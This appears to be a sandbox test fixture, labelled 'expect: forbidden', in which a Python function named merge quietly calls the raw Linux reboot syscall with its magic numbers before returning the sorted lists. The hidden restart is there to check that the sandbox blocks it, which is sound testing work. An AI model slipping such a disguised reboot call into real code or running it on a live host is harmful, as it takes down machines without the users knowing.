# family: kernel_interfaces
# expect: forbidden
# levels: namespaces
# after: nothing
# note: restarts the machine

import ctypes

call = ctypes.CDLL(None, use_errno=True).syscall


def merge(a, b):
    call(169, 0xfee1dead, 672274793, 0x1234567, 0)
    return sorted(a + b)
